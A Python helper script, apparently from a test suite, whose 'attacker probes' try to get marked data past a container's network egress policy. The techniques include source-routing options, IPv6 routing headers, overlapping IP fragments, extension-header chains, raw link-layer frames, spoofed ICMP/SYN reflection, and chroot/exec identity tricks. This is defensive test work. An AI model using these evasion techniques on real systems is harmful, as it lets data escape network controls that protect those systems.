#!/usr/bin/env python3
"""Attacker probes of the bypass suite, run inside a lab container.

Every payload carries the marker token the test passes (MK{...}); the test
judges what arrives at the peer, not what this process is told. What this
prints is diagnostics (plus, for the few probes whose requirement is about
the sender, e.g. "the UDP connect() succeeds", a line the test reads):
`key=value` lines, errors as `name=error:ERRNO`.

Protocol with the test for multi-step probes: a line "WAIT" means "do your
part, then write one line to my stdin".
"""

import ctypes
import errno
import os
import socket
import struct
import subprocess
import sys
import time

# The Internet checksum, shared with the probes of the other test tiers.
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from probe import checksum as csum  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)

IPV6_RTHDR = 57
IP_OPTIONS = 4
TCP_FASTOPEN_NO_COOKIE = 34
MSG_FASTOPEN = 0x20000000


def say(**kv):
    for k, v in kv.items():
        print(f"{k}={v}", flush=True)


def err(e):
    return "error:" + errno.errorcode.get(e.errno, str(e))


def attempt(name, fn):
    """Runs one send step; a refusal is information, not a failure."""
    try:
        r = fn()
        say(**{name: "ok" if r is None else r})
        return True
    except OSError as e:
        say(**{name: err(e)})
        return False


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def wait_go():
    print("WAIT", flush=True)
    sys.stdin.readline()


def payload(marker, size=64):
    body = (marker + " ").encode()
    return (body * (size // len(body) + 1))[:max(size, len(body))]


# --- plain sends, used as controls and by several probes ----------------------

def udp(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        attempt("sendto", lambda: s.sendto(payload(marker), (host, int(port))) and None)


def tcp(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.settimeout(3)
        if attempt("connect", lambda: s.connect((host, int(port)))):
            attempt("send", lambda: s.sendall(payload(marker)))
            time.sleep(0.2)


def mapped_udp(v4host, port, marker):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        attempt("sendto", lambda: s.sendto(payload(marker), ("::ffff:" + v4host, int(port))) and None)


# --- 1. revocation -------------------------------------------------------------

def stream(host, port, marker, limit):
    """Streams marked chunks until the kernel reports an error or `limit`
    seconds pass; prints the local port first so the test knows the flow."""
    with socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((host, int(port)))
        say(port=s.getsockname()[1])
        s.settimeout(1)
        chunk = payload(marker, 200)
        start = time.monotonic()
        while time.monotonic() - start < float(limit):
            try:
                s.send(chunk)
            except socket.timeout:
                pass
            except OSError as e:
                say(stream=err(e), after=round(time.monotonic() - start, 2))
                return
            time.sleep(0.01)
        say(stream="no-error")


# --- 2. steering ---------------------------------------------------------------

def srh(denied):
    # Segment routing header (type 4), one segment left: the kernel sends the
    # packet to segments[1] (the denied address) and writes the connected
    # address into segments[0].
    segs = [b"\0" * 16, socket.inet_pton(socket.AF_INET6, denied)]
    return struct.pack("!BBBBBBH", 0, 2 * len(segs), 4, 1, 1, 0, 0) + b"".join(segs)


def srr(kind, denied):
    # LSRR (131) or SSRR (137) listing the denied hop twice. The kernel takes
    # the first entry as the next hop and appends the connected address as
    # the final one. Set before connect(), the packets go to the denied hop;
    # set on a connected TCP socket (whose route is cached) they go to the
    # allowed peer but the option asks it to forward to the denied hop.
    addr = socket.inet_aton(denied)
    return struct.pack("!BBB", kind, 11, 4) + addr + addr + b"\x01"


def steer(sock_type, host, port, denied, marker, how, before):
    fam = family_of(host)
    with socket.socket(fam, sock_type) as s:
        s.settimeout(3)
        # A known source port: the test tells this socket's packets (a SYN
        # carries no marker) from an earlier probe's orphaned retransmits.
        s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", 0))
        say(lport=s.getsockname()[1])

        def setopt():
            if fam == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, srh(denied))
            else:
                s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, srr(int(how), denied))

        if before and not attempt("setsockopt", setopt):
            return
        if not attempt("connect", lambda: s.connect((host, int(port)))):
            return
        if not before and not attempt("setsockopt", setopt):
            return
        for _ in range(3):
            attempt("send", lambda: s.send(payload(marker)) and None)
            time.sleep(0.1)


def inbound_rthdr(port, denied, marker):
    """A server in the container; the peer connects in; the accepted socket
    gets a routing header naming a denied address, then sends."""
    srv = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("::", int(port)))
    srv.listen(1)
    srv.settimeout(10)
    print("ready", flush=True)
    try:
        conn, _ = srv.accept()
    except OSError as e:
        say(accept=err(e))
        return
    with conn:
        if denied != "-":
            attempt("setsockopt", lambda: conn.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, srh(denied)))
        for _ in range(3):
            attempt("send", lambda: conn.send(payload(marker)) and None)
            time.sleep(0.1)


# --- 3. neighbour discovery channel --------------------------------------------

def nd(icmp_type, dest, ifname, marker):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        # type, code, checksum (the kernel fills it), 4 reserved bytes, then
        # what would be the target address and options: here, the marker.
        msg = struct.pack("!BBHI", int(icmp_type), 0, 0, 0) + payload(marker, 48)
        scope = socket.if_nametoindex(ifname)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        attempt("sendto", lambda: s.sendto(msg, (dest, 0, 0, scope)) and None)


# --- 4. UDP replies ------------------------------------------------------------

def udp_revoke(host, port, first_marker, marker):
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        attempt("first", lambda: s.sendto(payload(first_marker), (host, int(port))) and None)
        attempt("reply", lambda: len(s.recvfrom(2048)[0]))
        wait_go()
        attempt("after", lambda: s.sendto(payload(marker), (host, int(port))) and None)


def bound_udp(host, lport, reuse):
    fam = family_of(host)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if reuse:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", int(lport)))
    s.settimeout(10)
    return s


def first_peer(sock):
    """Says "ready", then waits for the peer's first datagram: its address,
    or None (reported) when none came."""
    print("ready", flush=True)
    try:
        return sock.recvfrom(2048)[1]
    except OSError as e:
        say(recv=err(e))
        return None


def udp_tied(lport, host, marker_a, marker_b):
    """Socket A is spoken to by the peer; socket B (same local port, via
    SO_REUSEPORT, bound after the peer spoke) answers the same peer."""
    a = bound_udp(host, lport, True)
    peer = first_peer(a)
    if peer is None:
        return
    b = bound_udp(host, lport, True)
    attempt("b_send", lambda: b.sendto(payload(marker_b), peer) and None)
    time.sleep(0.1)
    attempt("a_send", lambda: a.sendto(payload(marker_a), peer) and None)


def udp_late_reply(lport, host, wait, marker):
    a = bound_udp(host, lport, False)
    peer = first_peer(a)
    if peer is None:
        return
    time.sleep(float(wait))
    attempt("late_reply", lambda: a.sendto(payload(marker), peer) and None)


# --- 5. loopback listeners (Docker's DNS) -----------------------------------------

def udp_listen(pairs):
    socks = []
    for host, port in zip(pairs[::2], pairs[1::2]):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((host, int(port)))
        socks.append(s)
    print("ready", flush=True)
    import select
    while True:
        for s in select.select(socks, [], [])[0]:
            s.recvfrom(2048)


# --- 7. UDP connect then send ------------------------------------------------------

def connect_then_send(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        attempt("connect", lambda: s.connect((host, int(port))))
        attempt("send", lambda: s.send(payload(marker)) and None)


# --- 9. exec identity -------------------------------------------------------------

def exec_as(path, rest):
    # Replaces this (allowed) process; the new image must not keep the old
    # identity just because its exec record could not be taken.
    os.execv(path, [path, os.path.abspath(__file__)] + rest)


def chroot_exec(root, path, rest):
    # CAP_SYS_CHROOT is in Docker's default set: inside `root`, `path` (the
    # allowed executable's path) is whatever the attacker put there.
    os.chroot(root)
    os.chdir("/")
    os.execv(path, [path] + rest)


# --- 10. AF_UNSPEC -------------------------------------------------------------------

def sendto_unspec(host, port, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        addr = struct.pack("=H", 0) + struct.pack("!H", int(port)) + socket.inet_aton(host) + b"\0" * 8
        data = payload(marker)
        n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
        say(sendto="ok" if n >= 0 else "error:" + errno.errorcode.get(ctypes.get_errno(), "?"))


# --- classic vectors ------------------------------------------------------------------

def ip4(src, dst, proto, body, options=b"", frag=0, ident=0x4242):
    ihl = 5 + len(options) // 4
    hdr = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, 20 + len(options) + len(body), ident, frag, 64,
                      proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + body


def udp_hdr(sport, dport, body):
    return struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body


def raw4_send(packets, dst):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for p in packets:
            attempt("sendto", lambda: s.sendto(p, (dst, 0)) and None)


def raw4(src, dst, port, marker, options):
    opts = b""
    if options == "nop":
        opts = b"\x01\x01\x01\x00"  # three NOPs and an end-of-list
    elif options == "rr":
        opts = struct.pack("!BBB", 7, 11, 4) + b"\0" * 8 + b"\0"  # record route, 2 slots
    elif options.startswith("lsrr="):
        # Loose source route whose next hop is the named address: a router
        # at `dst` would forward the packet there.
        opts = struct.pack("!BBB", 131, 7, 4) + socket.inet_aton(options[5:]) + b"\x00"
    raw4_send([ip4(src, dst, 17, udp_hdr(40000, int(port), payload(marker)), opts)], dst)


def frag4_later(src, dst, port, marker):
    # Only a later fragment (offset 64 bytes): no transport header to judge.
    raw4_send([ip4(src, dst, 17, payload(marker, 64), frag=8, ident=0x1111)], dst)


def frag4_overlap(src, dst, ok_port, bad_port, marker):
    # First fragment names an allowed port; an overlapping fragment at
    # offset 0 rewrites the UDP header to a denied port and carries data.
    first = udp_hdr(40000, int(ok_port), b"A" * 16)
    second = udp_hdr(40000, int(bad_port), payload(marker, 64))
    raw4_send([ip4(src, dst, 17, first, frag=0x2000, ident=0x2222),
               ip4(src, dst, 17, second, frag=0, ident=0x2222)], dst)


def frag4_tiny(src, dst, ok_port, bad_port, marker):
    # A datagram to a denied port, split so that the first fragment is the
    # UDP header alone and the data travels in a later fragment, which has
    # no port to judge: the data must not arrive on its own.
    body = payload(marker, 64)
    hdr = udp_hdr(40000, int(bad_port), body)
    raw4_send([ip4(src, dst, 17, hdr[:8], frag=0x2000, ident=0x3333),
               ip4(src, dst, 17, hdr[8:], frag=1, ident=0x3333)], dst)


def ip6(src, dst, nh, body):
    return struct.pack("!IHBB16s16s", 6 << 28, len(body), nh, 64,
                       socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)) + body


def opts_hdr(nh):
    # Hop-by-hop or destination options: 8 bytes, a PadN filling 6 bytes.
    return struct.pack("!BB", nh, 0) + b"\x01\x04\0\0\0\0"


def frag6_hdr(nh, offset, more, ident):
    return struct.pack("!BBHI", nh, 0, (offset & 0xFFF8) | int(more), ident)


def raw6_send(packets, dst):
    # IPPROTO_RAW on AF_INET6 implies IPV6_HDRINCL.
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for p in packets:
            attempt("sendto", lambda: s.sendto(p, (dst, 0)) and None)


def v6_ext(src, dst, port, marker):
    # hop-by-hop → destination options → UDP to a denied port.
    body = opts_hdr(60) + opts_hdr(17) + udp_hdr(40000, int(port), payload(marker))
    raw6_send([ip6(src, dst, 0, body)], dst)


def v6_frag_hidden(src, dst, port, marker):
    # First fragment ends after a destination options header in the
    # fragmentable part; the UDP header (and the port) is in the second.
    udp_part = udp_hdr(40000, int(port), payload(marker))
    first = frag6_hdr(60, 0, True, 0x5555) + opts_hdr(17)
    second = frag6_hdr(60, 8, False, 0x5555) + udp_part
    raw6_send([ip6(src, dst, 44, first), ip6(src, dst, 44, second)], dst)


def v6_srh_raw(src, dst, denied, port, marker):
    # Routing header type 4 with one segment left: the allowed peer is the
    # current segment (the IPv6 destination), the denied address the next.
    segs = socket.inet_pton(socket.AF_INET6, denied) + socket.inet_pton(socket.AF_INET6, dst)
    rh = struct.pack("!BBBBBBH", 17, 4, 4, 1, 1, 0, 0) + segs
    raw6_send([ip6(src, dst, 43, rh + udp_hdr(40000, int(port), payload(marker)))], dst)


def af_packet(ifname, src, dst, port, marker):
    # A link-layer frame (broadcast MAC) carrying an IPv4/UDP packet: the
    # cgroup hooks never see it; only a program on the host side of the
    # container's veth can.
    pkt = ip4(src, dst, 17, udp_hdr(40000, int(port), payload(marker)))
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
        attempt("sendto", lambda: s.sendto(pkt, (ifname, 0x0800, 0, 0, b"\xff" * 6)) and None)


def tfo(host, port, marker):
    with socket.socket(family_of(host), socket.SOCK_STREAM) as s:
        s.settimeout(3)
        # Per-socket: no cookie needed, so the SYN itself carries the data.
        attempt("nocookie", lambda: s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1))
        attempt("sendto", lambda: s.sendto(payload(marker), MSG_FASTOPEN, (host, int(port))) and None)
        time.sleep(0.3)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


def sendmmsg(host, port, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        n = 2
        addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", int(port))
                                           + socket.inet_aton(host) + b"\0" * 8, 16)
        bufs = [ctypes.create_string_buffer(payload(marker)) for _ in range(n)]
        iovs = [Iovec(ctypes.cast(b, ctypes.c_void_p), len(b) - 1) for b in bufs]
        msgs = (Mmsghdr * n)()
        for i in range(n):
            msgs[i].hdr.name = ctypes.cast(addr, ctypes.c_void_p)
            msgs[i].hdr.namelen = 16
            msgs[i].hdr.iov = ctypes.pointer(iovs[i])
            msgs[i].hdr.iovlen = 1
        r = libc.sendmmsg(s.fileno(), msgs, n, 0)
        say(sendmmsg=r if r >= 0 else "error:" + errno.errorcode.get(ctypes.get_errno(), "?"))


def fdpass(creator, host, port, marker):
    """A socket made by `creator` (a process the policy does not allow),
    handed over SCM_RIGHTS to this (allowed) process, which sends on it."""
    if creator == "-":
        s = socket.socket(family_of(host), socket.SOCK_DGRAM)
    else:
        here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        subprocess.run([creator, os.path.abspath(__file__), "fd-create", str(there.fileno()), family_of(host).name],
                       pass_fds=[there.fileno()], check=True)
        _, fds, _, _ = socket.recv_fds(here, 16, 1)
        s = socket.socket(fileno=fds[0])
    with s:
        attempt("sendto", lambda: s.sendto(payload(marker), (host, int(port))) and None)


def fd_create(fd, family):
    chan = socket.socket(fileno=int(fd))
    s = socket.socket(getattr(socket, family), socket.SOCK_DGRAM)
    socket.send_fds(chan, [b"fd"], [s.fileno()])


def flood(host, port, count, marker):
    sent = refused = 0
    with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
        for _ in range(int(count)):
            try:
                s.sendto(payload(marker, 16), (host, int(port)))
                sent += 1
            except OSError:
                refused += 1
    say(sent=sent, refused=refused)


# --- review probes ----------------------------------------------------------------

def v6_srh_segleft(src, dst, denied, port, marker):
    # SRH whose Last Entry (0) understates its segment list: 3 slots
    # (hdrlen 6), segments_left 2, so a router visits segments[1] next.
    segs = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (dst, denied, dst))
    rh = struct.pack("!BBBBBBH", 17, 6, 4, 2, 0, 0, 0) + segs
    raw6_send([ip6(src, dst, 43, rh + udp_hdr(40000, int(port), payload(marker)))], dst)


def v6_ext7_srh(src, dst, denied, port, marker):
    # Six destination-options headers, then an SRH naming the denied
    # address, then UDP: the parser stops after six headers.
    segs = socket.inet_pton(socket.AF_INET6, denied) + socket.inet_pton(socket.AF_INET6, dst)
    rh = struct.pack("!BBBBBBH", 17, 4, 4, 1, 1, 0, 0) + segs
    body = opts_hdr(60) * 5 + opts_hdr(43) + rh + udp_hdr(40000, int(port), payload(marker))
    raw6_send([ip6(src, dst, 60, body)], dst)


def icmp6_csum(src, dst, msg):
    ph = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!I3xB", len(msg), 58)
    return csum(ph + msg)


def reflect_echo6(spoofed, dst, marker):
    # An echo request "from" a denied address to a local address: the
    # kernel answers it, with our payload, to the denied address.
    body = payload(marker, 64)
    msg = struct.pack("!BBHHH", 128, 0, 0, 0x77, 1) + body
    c = icmp6_csum(spoofed, dst, msg)
    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
    raw6_send([ip6(spoofed, dst, 58, msg)], dst)


def reflect_echo4(spoofed, dst, marker):
    body = payload(marker, 64)
    msg = struct.pack("!BBHHH", 8, 0, 0, 0x77, 1) + body
    msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
    raw4_send([ip4(spoofed, dst, 1, msg)], dst)


def reflect_rst4(spoofed, dst, dport, sport):
    # A SYN "from" a denied address to a closed local port: the kernel
    # answers with a RST to the denied address (seq/ack/ports carry data).
    tcp = struct.pack("!HHIIBBHHH", int(sport), int(dport), 0x4d4b4d4b, 0, 5 << 4, 0x02, 1024, 0, 0)
    ph = socket.inet_aton(spoofed) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    raw4_send([ip4(spoofed, dst, 6, tcp)], dst)


def stream_mptcp(host, port, marker, limit):
    real = socket.socket
    socket.socket = lambda fam, typ: real(fam, typ, 262)
    try:
        stream(host, port, marker, limit)
    finally:
        socket.socket = real


def revoked_flood(host, port, denied, count):
    # Connected TCP flows to an allowed peer; then each gets an LSRR through
    # a denied hop and sends: every segment is denied and flagged as a
    # revoked flow, which the rate limit never holds back.
    socks = []
    for _ in range(int(count)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect((host, int(port)))
            socks.append(s)
        except OSError as e:
            say(error=err(e))
            break
    t0 = time.monotonic()
    for s in socks:
        try:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, srr(131, denied))
            s.setblocking(False)
            for _ in range(3):
                s.send(b"x" * 100)
        except OSError:
            pass
    say(flood_sockets=len(socks), send_phase_ms=round((time.monotonic() - t0) * 1000))
    time.sleep(1)


def mcast_reply(group, port, ifaddr, spoofed, sport, marker):
    # A UDP socket joins `group`; a raw packet "from" the denied address to
    # the group loops back to it on the veth (not lo), so the socket may
    # then "answer" the denied address.
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind(("0.0.0.0", int(port)))
    mreq = socket.inet_aton(group) + socket.inet_aton(ifaddr)
    u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    u.settimeout(2)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as r:
        r.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
        pkt = ip4(spoofed, group, 17, udp_hdr(int(sport), int(port), b"hello"))
        attempt("raw", lambda: r.sendto(pkt, (group, 0)) and None)
    try:
        data, src = u.recvfrom(100)
        say(got=src[0] + ":" + str(src[1]))
    except OSError as e:
        say(recv=err(e))
    attempt("reply", lambda: u.sendto(payload(marker), (spoofed, int(sport))) and None)


COMMANDS = {
    "udp": udp, "tcp": tcp, "mapped-udp": mapped_udp, "stream": stream,
    "steer-tcp": lambda *a: steer(socket.SOCK_STREAM, *a[:5], before=a[5] == "before"),
    "steer-udp": lambda *a: steer(socket.SOCK_DGRAM, *a[:5], before=a[5] == "before"),
    "inbound-rthdr": inbound_rthdr, "nd": nd, "udp-revoke": udp_revoke, "udp-tied": udp_tied,
    "udp-late-reply": udp_late_reply, "udp-listen": lambda *a: udp_listen(list(a)),
    "connect-then-send": connect_then_send, "exec-as": lambda path, *rest: exec_as(path, list(rest)),
    "chroot-exec": lambda root, path, *rest: chroot_exec(root, path, list(rest)),
    "sendto-unspec": sendto_unspec, "raw4": raw4, "frag4-later": frag4_later, "frag4-overlap": frag4_overlap,
    "frag4-tiny": frag4_tiny, "v6-ext": v6_ext, "v6-frag-hidden": v6_frag_hidden, "v6-srh-raw": v6_srh_raw, "af-packet": af_packet, "tfo": tfo,
    "sendmmsg": sendmmsg, "mcast-reply": mcast_reply, "v6-srh-segleft": v6_srh_segleft, "v6-ext7-srh": v6_ext7_srh, "reflect-echo6": reflect_echo6, "reflect-echo4": reflect_echo4, "reflect-rst4": reflect_rst4, "stream-mptcp": stream_mptcp, "revoked-flood": revoked_flood, "fdpass": fdpass, "fd-create": fd_create, "flood": flood,
}


if __name__ == "__main__":
    COMMANDS[sys.argv[1]](*sys.argv[2:])
